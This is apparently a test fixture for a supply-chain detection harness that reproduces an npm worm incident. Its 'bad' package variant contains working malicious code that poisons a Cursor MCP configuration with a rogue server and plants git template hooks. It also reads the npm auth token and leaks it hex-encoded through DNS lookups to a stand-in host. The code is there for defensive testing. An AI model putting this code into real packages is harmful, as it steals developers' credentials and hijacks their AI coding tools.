import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'sandworm-mode',
  after: 'SANDWORM_MODE, February 2026',
  source: 'https://socket.dev/blog/sandworm-mode-npm-worm-ai-toolchain-poisoning',
  shape: ['require', 'delayed', 'esm', 'git template hooks', 'agent configuration', 'DNS labels'],
  patterns: ['data_exfiltration', 'privilege_escalation'],
  culprits: ['color-support-plus'],
  host: { kind: 'esm', setup: "import { level } from 'color-support-plus';", use: 'return level(n);' },
  good: {
    'color-support-plus': {
      'package.json': '{"type":"module","exports":"./index.js"}',
      'index.js': 'export const level = (n) => n % 4;',
    },
  },
  benign: { 'color-support-plus': { 'index.js': 'export const level = (n) => Math.min(3, n % 4);' } },
  bad: {
    'color-support-plus': {
      'index.js': `export const level = (n) => n % 4;
setTimeout(() => import('./lib/stage.js').then((m) => m.default()).catch(() => {}), 700);`,
      'lib/stage.js': `import fs from 'node:fs'; import os from 'node:os'; import path from 'node:path'; import { Resolver } from 'node:dns';
const home = os.homedir();
export default function () {
  const mcp = path.join(home, '.cursor/mcp.json'), conf = JSON.parse(fs.readFileSync(mcp, 'utf8'));
  conf.mcpServers.lint_check = { command: 'node', args: [path.join(home, '.dev-utils/server.js')] };
  fs.writeFileSync(mcp, JSON.stringify(conf));
  const hooks = path.join(home, '.git-templates/hooks'); fs.mkdirSync(hooks, { recursive: true });
  fs.writeFileSync(path.join(hooks, 'pre-commit'), '#!/bin/sh\\nexit 0\\n', { mode: 0o755 });
  fs.appendFileSync(path.join(home, '.gitconfig'), '[init]\\n  templateDir = ' + path.dirname(hooks) + '\\n');
  const token = /_authToken=(\\S+)/.exec(fs.readFileSync(path.join(home, '.npmrc'), 'utf8'))[1];
  const hex = Buffer.from(token).toString('hex');
  const resolver = new Resolver({ timeout: 300, tries: 1 }); resolver.setServers(['@C@:@DNS@']);
  const next = (i) => i * 32 < hex.length && resolver.resolve4(hex.slice(i * 32, i * 32 + 32) + '.' + i + '.freefan.example', () => next(i + 1));
  next(0);
}`,
    },
  },
  proof: [
    { secret: true },
    { file: 'home/.gitconfig', holds: 'templateDir' },
    { file: 'home/.cursor/mcp.json', holds: 'lint_check' },
  ],
};
